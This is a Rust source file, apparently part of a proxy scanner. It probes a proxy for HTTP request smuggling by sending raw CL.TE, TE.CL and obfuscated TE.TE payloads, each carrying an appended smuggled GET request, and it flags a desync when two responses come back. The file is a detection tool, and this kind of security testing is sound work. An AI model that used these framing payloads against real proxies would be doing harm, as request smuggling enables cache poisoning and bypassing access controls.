//! HTTP request smuggling probe. Sends a request with conflicting length
//! framing — `Content-Length` vs `Transfer-Encoding`, or an obfuscated
//! `Transfer-Encoding` spelling a strict parser should reject — with a
//! second, "smuggled" request appended after the framing the proxy is
//! expected to honor. If the proxy desyncs and forwards the smuggled bytes as
//! their own request, two distinct HTTP responses come back off one
//! connection instead of one.

use super::ProbeContext;
use crate::httpclient;
use crate::prelude::*;
use crate::transport::RequestForm;
use crate::types::{Evidence, FindingKind, ProbeOutcome};

type Outcome = (ProbeOutcome, Option<(FindingKind, Evidence)>);

const ANCHOR_HOST: &str = "example.com";
const ANCHOR_PORT: u16 = 80;

/// `(CL.TE, TE.CL, TE.TE obfuscated)` payload variants, built over the same
/// anchor request. Each names the combination for evidence purposes.
fn payloads(host: &str) -> Vec<(&'static str, Vec<u8>)> {
	vec![
		(
			"cl.te",
			format!(
				"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\nGET /smuggled_cl_te HTTP/1.1\r\nHost: {host}\r\n\r\n"
			)
			.into_bytes(),
		),
		(
			"te.cl",
			format!(
				"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n\r\nGET /smuggled_te_cl HTTP/1.1\r\nHost: {host}\r\n\r\n"
			)
			.into_bytes(),
		),
		(
			"te.te obfuscated",
			format!(
				"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nTransfer-encoding: identity\r\nConnection: keep-alive\r\n\r\n0\r\n\r\nGET /smuggled_te_te HTTP/1.1\r\nHost: {host}\r\n\r\n"
			)
			.into_bytes(),
		),
	]
}

pub async fn probe(ctx: &ProbeContext<'_>) -> Outcome {
	let mut any_negative = None;
	for (variant, raw_request) in payloads(ANCHOR_HOST) {
		let outcome = try_variant(ctx, variant, &raw_request).await;
		match outcome.0 {
			ProbeOutcome::Positive => return outcome,
			ProbeOutcome::Negative => {
				if any_negative.is_none() {
					any_negative = Some(outcome);
				}
			},
			ProbeOutcome::Inconclusive => {},
		}
	}
	any_negative.unwrap_or((ProbeOutcome::Inconclusive, None))
}

async fn try_variant(ctx: &ProbeContext<'_>, variant: &'static str, raw_request: &[u8]) -> Outcome {
	let Ok((mut stream, form)) = ctx.factory.connect(ctx.candidate, ctx.proxy_type, ANCHOR_HOST, ANCHOR_PORT, false).await else {
		return (ProbeOutcome::Inconclusive, None);
	};
	// This probe needs exact control over framing bytes; origin-form vs
	// absolute-form only changes the request-line text the backend expects,
	// which the raw payloads above already hardcode for the common case.
	let _ = form;

	let Some(Ok(first)) = super::cancellable(ctx.cancel, httpclient::send_raw(&mut stream, raw_request, ctx.per_probe_timeout)).await
	else {
		return (ProbeOutcome::Inconclusive, None);
	};
	if first.status.is_none() {
		return (ProbeOutcome::Inconclusive, None);
	}

	// A desynced connection hands back the smuggled request's response too,
	// without us sending anything further.
	let second = super::cancellable(
		ctx.cancel,
		tokio::time::timeout(Duration::from_millis(800), httpclient::read_response(&mut stream)),
	)
	.await;
	match second {
		None => (ProbeOutcome::Inconclusive, None),
		Some(Ok(Ok(second))) if second.status.is_some() => {
			debug!(variant, "protocol smuggling confirmed");
			let evidence = Evidence {
				probe_id: strng("protocol_smuggling"),
				request_fingerprint: super::fingerprint(raw_request),
				response_fingerprint: super::fingerprint(&second.body),
				oob_token_match: None,
			};
			(ProbeOutcome::Positive, Some((FindingKind::ProtocolSmuggling, evidence)))
		},
		Some(_) => (ProbeOutcome::Negative, None),
	}
}
